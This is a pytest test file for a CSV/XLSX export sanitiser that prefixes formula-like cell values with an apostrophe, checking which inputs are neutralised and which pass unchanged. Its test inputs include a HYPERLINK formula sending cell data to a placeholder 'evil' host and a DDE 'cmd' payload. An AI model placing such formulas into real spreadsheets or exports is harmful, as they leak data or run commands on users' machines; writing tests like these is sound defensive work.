"""The one neutralising function of every CSV/XLSX export (asnkarier.services.spreadsheet)."""

from __future__ import annotations

import io

import pytest

from asnkarier.services.spreadsheet import is_formula_like, safe_cell, write_csv


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil/?d="&A1,"x")',
        "+SUM(A1)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\rtext",
        "+62 812-3456-7890",  # text with separators: Excel would try it as a formula
        "-",
    ],
)
def test_formula_like_text_gets_an_apostrophe(value: str) -> None:
    assert is_formula_like(value)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-5", "-1.5", "+6281234567890", "0812-3456", "Budi", "", "a=b", 42, None]
)
def test_numbers_and_ordinary_text_stay_as_they_are(value: object) -> None:
    assert not is_formula_like(value)
    assert safe_cell(value) == value


def test_write_csv_neutralises_rows_but_not_the_header() -> None:
    buffer = io.StringIO()
    assert write_csv(buffer, ["nama", "-x"], [["=1+1", "-3"], ["ok", "@a"]]) == 2
    assert buffer.getvalue().splitlines() == ["nama,-x", "'=1+1,-3", "ok,'@a"]
